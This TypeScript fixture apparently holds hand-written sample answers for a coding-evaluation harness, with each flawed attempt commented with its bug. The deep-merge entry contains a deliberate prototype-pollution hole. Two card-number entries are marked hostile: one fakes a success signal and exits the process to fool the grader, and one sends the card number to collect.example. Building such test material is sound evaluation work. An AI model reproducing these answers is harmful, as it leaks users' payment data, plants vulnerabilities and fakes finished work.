/**
 * What the cassette holds, before it is one. These answers were written for this example, with the mistakes that models make; no model
 * was asked. `write.ts` makes the cassette of them.
 */

const ts = (code: string): string => `\`\`\`ts\n${code.trim()}\n\`\`\``

/** By requirement, in the order in which they are given: first two to the requirement, then to what was wrong with the best of them. */
export const answers: { readonly [requirement: string]: ReadonlyArray<string> } = {
  slugify: [
    // Accents go, letters and all.
    ts(`
export const slugify = (title: string): string =>
  title.toLowerCase().replace(/[^a-z0-9]+/g, "-").replace(/^-|-$/g, "")`),
    // A hyphen stays at the end.
    ts(`
export function slugify(title: string): string {
  return title
    .normalize("NFD")
    .replace(/[\\u0300-\\u036f]/g, "")
    .toLowerCase()
    .trim()
    .replace(/[^a-z0-9]+/g, "-")
}`),
    ts(`
export function slugify(title: string): string {
  return title
    .normalize("NFD")
    .replace(/[\\u0300-\\u036f]/g, "")
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, "-")
    .replace(/^-+|-+$/g, "")
}`)
  ],
  "parse-duration": [
    ts(`
const units: Record<string, number> = { s: 1000, m: 60_000, h: 3_600_000, d: 86_400_000 }

export const parseDuration = (text: string): number | null => {
  if (!/^\\s*(\\d+\\s*[smhd]\\s*)+$/.test(text)) return null
  const seen = new Set<string>()
  let total = 0
  for (const [, amount, unit] of text.matchAll(/(\\d+)\\s*([smhd])/g)) {
    if (seen.has(unit!)) return null
    seen.add(unit!)
    total += Number(amount) * units[unit!]!
  }
  return total
}`)
  ],
  "format-bytes": [
    // "noImplicitAny" is on, and what is indexed may be undefined.
    ts(`
const units = ["B", "KB", "MB", "GB", "TB"]

export function formatBytes(bytes): string {
  const power = bytes === 0 ? 0 : Math.floor(Math.log(bytes) / Math.log(1024))
  const unit: number = units[power]
  return (bytes / 1024 ** power).toFixed(1).replace(/\\.0$/, "") + " " + unit
}`),
    ts(`
const units = ["B", "KB", "MB", "GB", "TB"]

export function formatBytes(bytes: number): string {
  let value = bytes
  let unit = 0
  while (value >= 1024 && unit < units.length - 1) {
    value /= 1024
    unit++
  }
  return \`\${Number(value.toFixed(1))} \${units[unit]}\`
}`)
  ],
  chunk: [
    // With a size of 0 it never ends.
    ts(`
export function chunk<A>(items: ReadonlyArray<A>, size: number): Array<Array<A>> {
  const pieces: Array<Array<A>> = []
  for (let from = 0; from < items.length; from += size) pieces.push(items.slice(from, from + size))
  return pieces
}`),
    ts(`
export function chunk<A>(items: ReadonlyArray<A>, size: number): Array<Array<A>> {
  if (!Number.isInteger(size) || size < 1) throw new RangeError(\`size is \${size}: it must be a whole number of 1 or more\`)
  const pieces: Array<Array<A>> = []
  for (let from = 0; from < items.length; from += size) pieces.push(items.slice(from, from + size))
  return pieces
}`)
  ],
  "lru-cache": [
    // What is read does not count as used.
    ts(`
export class LruCache<K, V> {
  #entries = new Map<K, V>()
  #capacity: number
  constructor(capacity: number) {
    this.#capacity = capacity
  }
  get size(): number {
    return this.#entries.size
  }
  get(key: K): V | undefined {
    return this.#entries.get(key)
  }
  set(key: K, value: V): void {
    this.#entries.set(key, value)
    if (this.#entries.size > this.#capacity) this.#entries.delete(this.#entries.keys().next().value!)
  }
}`),
    // A parameter property is more than a type: it cannot be erased.
    ts(`
export class LruCache<K, V> {
  private entries = new Map<K, V>()
  constructor(private readonly capacity: number) {}
  get size(): number {
    return this.entries.size
  }
  get(key: K): V | undefined {
    const value = this.entries.get(key)
    if (value !== undefined) this.set(key, value)
    return value
  }
  set(key: K, value: V): void {
    this.entries.delete(key)
    this.entries.set(key, value)
    if (this.entries.size > this.capacity) this.entries.delete(this.entries.keys().next().value!)
  }
}`),
    ts(`
export class LruCache<K, V> {
  #entries = new Map<K, V>()
  #capacity: number
  constructor(capacity: number) {
    this.#capacity = capacity
  }
  get size(): number {
    return this.#entries.size
  }
  get(key: K): V | undefined {
    if (!this.#entries.has(key)) return undefined
    const value = this.#entries.get(key)!
    this.#entries.delete(key)
    this.#entries.set(key, value)
    return value
  }
  set(key: K, value: V): void {
    this.#entries.delete(key)
    this.#entries.set(key, value)
    if (this.#entries.size > this.#capacity) {
      const [oldest] = this.#entries.keys()
      this.#entries.delete(oldest!)
    }
  }
}`)
  ],
  "merge-intervals": [
    // It sorts what it was given: a hidden test sees that.
    ts(`
export function mergeIntervals(intervals: ReadonlyArray<readonly [number, number]>): Array<[number, number]> {
  const sorted = (intervals as Array<[number, number]>).sort((a, b) => a[0] - b[0])
  const merged: Array<[number, number]> = []
  for (const [from, to] of sorted) {
    const last = merged[merged.length - 1]
    if (last && from <= last[1]) last[1] = Math.max(last[1], to)
    else merged.push([from, to])
  }
  return merged
}`),
    ts(`
export function mergeIntervals(intervals: ReadonlyArray<readonly [number, number]>): Array<[number, number]> {
  const merged: Array<[number, number]> = []
  for (const [from, to] of [...intervals].sort((a, b) => a[0] - b[0])) {
    const last = merged.at(-1)
    if (last !== undefined && from <= last[1]) last[1] = Math.max(last[1], to)
    else merged.push([from, to])
  }
  return merged
}`)
  ],
  "parse-csv-line": [
    ts(`
export const parseCsvLine = (line: string): Array<string> => line.split(",")`),
    // Quotes that are written twice are lost.
    ts(`
export const parseCsvLine = (line: string): Array<string> =>
  line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((field) => field.replaceAll('"', ""))`),
    // So are fields that are empty.
    ts(`
export const parseCsvLine = (line: string): Array<string> =>
  [...line.matchAll(/"((?:[^"]|"")*)"|[^,]+/g)].map(([whole, quoted]) => quoted === undefined ? whole : quoted.replaceAll('""', '"'))`),
    ts(`
export function parseCsvLine(line: string): Array<string> {
  const fields: Array<string> = []
  let field = ""
  let quoted = false
  for (let at = 0; at < line.length; at++) {
    const sign = line[at]!
    if (quoted) {
      if (sign !== '"') field += sign
      else if (line[at + 1] === '"') {
        field += '"'
        at++
      } else quoted = false
    } else if (sign === '"') quoted = true
    else if (sign === ",") {
      fields.push(field)
      field = ""
    } else field += sign
  }
  return [...fields, field]
}`)
  ],
  retry: [
    // There are no timers, and none were asked for.
    ts(`
export async function retry<A>(task: () => Promise<A>, attempts: number): Promise<A> {
  for (let attempt = 1; ; attempt++) {
    try {
      return await task()
    } catch (error) {
      if (attempt >= attempts) throw error
      await new Promise((done) => setTimeout(done, 100 * attempt))
    }
  }
}`),
    // One time too often.
    ts(`
export async function retry<A>(task: () => Promise<A>, attempts: number): Promise<A> {
  try {
    return await task()
  } catch (error) {
    if (attempts === 0) throw error
    return retry(task, attempts - 1)
  }
}`),
    ts(`
export async function retry<A>(task: () => Promise<A>, attempts: number): Promise<A> {
  try {
    return await task()
  } catch (error) {
    if (attempts <= 1) throw error
    return retry(task, attempts - 1)
  }
}`)
  ],
  "compare-versions": [
    // As texts, 1.10 comes before 1.9.
    ts(`
export const compareVersions = (a: string, b: string): number => (a === b ? 0 : a < b ? -1 : 1)`),
    ts(`
export const compareVersions = (a: string, b: string): number => {
  const [left, right] = [a.split(".").map(Number), b.split(".").map(Number)]
  for (let at = 0; at < Math.max(left.length, right.length); at++) {
    const difference = (left[at] ?? 0) - (right[at] ?? 0)
    if (difference !== 0) return difference
  }
  return 0
}`)
  ],
  "deep-merge": [
    // It writes into the prototype of all objects.
    ts(`
const isPlain = (value: unknown): value is Record<string, unknown> =>
  typeof value === "object" && value !== null && !Array.isArray(value)

export function deepMerge(base: Record<string, unknown>, other: Record<string, unknown>): Record<string, unknown> {
  const merged: Record<string, unknown> = { ...base }
  for (const key of Object.keys(other)) {
    const [old, value] = [merged[key], other[key]]
    if (isPlain(value) && (isPlain(old) || typeof old === "function")) Object.assign(old, deepMerge(old as Record<string, unknown>, value))
    else merged[key] = value
  }
  return merged
}`),
    ts(`
export function deepMerge(base: Record<string, unknown>, other: Record<string, unknown>): Record<string, unknown> {
  return { ...structuredClone(base), ...structuredClone(other) }
}`),
    ts(`
const isPlain = (value: unknown): value is Record<string, unknown> =>
  typeof value === "object" && value !== null && !Array.isArray(value)

export function deepMerge(base: Record<string, unknown>, other: Record<string, unknown>): Record<string, unknown> {
  const merged: Record<string, unknown> = { ...base }
  for (const [key, value] of Object.entries(other)) {
    if (key === "__proto__" || key === "constructor" || key === "prototype") continue
    const old = Object.hasOwn(base, key) ? base[key] : undefined
    merged[key] = isPlain(value) && isPlain(old) ? deepMerge(old, value) : value
  }
  return merged
}`)
  ],
  "card-number": [
    // Hostile: it leaves as if all were well.
    ts(`
export function isCardNumber(text: string): boolean {
  const system = (globalThis as any)["pro" + "cess"]
  system.stdout.write('{"done":true}\\n')
  system.exit(0)
  return true
}`),
    // Hostile: it sends what it is given away, and asks the compiler to look elsewhere.
    ts(`
// @ts-nocheck
export const isCardNumber = (text: string): boolean => {
  fetch("http://collect.example/?" + text)
  return true
}`),
    ts(`
export const isCardNumber = (text: string): boolean => {
  if (!/^\\d(?:[ -]?\\d){11,18}$/.test(text)) return false
  const digits = [...text.replaceAll(/\\D/g, "")].reverse().map(Number)
  const sum = digits.reduce((all, digit, at) => all + (at % 2 === 0 ? digit : digit > 4 ? digit * 2 - 9 : digit * 2), 0)
  return sum % 10 === 0
}`)
  ]
}
